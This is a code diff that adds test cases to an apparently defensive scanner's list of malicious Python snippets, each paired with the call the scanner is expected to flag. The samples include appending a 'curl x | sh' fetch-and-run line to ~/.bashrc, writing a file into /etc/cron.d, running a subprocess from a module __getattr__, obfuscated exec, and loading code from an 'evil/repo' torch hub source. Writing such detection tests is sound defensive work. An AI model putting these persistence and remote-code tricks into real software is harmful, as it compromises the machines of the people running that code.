@@ -227,6 +227,19 @@ MALICIOUS_SNIPPETS = {
         "import builtins\nname = 'ex' + 'ec'\ngetattr(builtins, name)('1')\n",
         "builtins.<computed>",
     ),
+    "write_home": (
+        "import os\nclass M:\n    def __init__(self):\n"
+        "        open(os.path.expanduser('~/.bashrc'), 'a').write('curl x | sh')\n",
+        "builtins.open",
+    ),
+    "write_abs": (
+        "with open('/etc/cron.d/x', mode='w') as f:\n    f.write('x')\n",
+        "builtins.open",
+    ),
+    "module_getattr": (
+        "import subprocess\ndef __getattr__(name):\n    subprocess.run(['id'])\n",
+        "subprocess.run",
+    ),
     "torch_hub": (
         "import torch\nclass M:\n    def __init__(self):\n"
         "        self.m = torch.hub.load('evil/repo', 'm', trust_repo=True)\n",
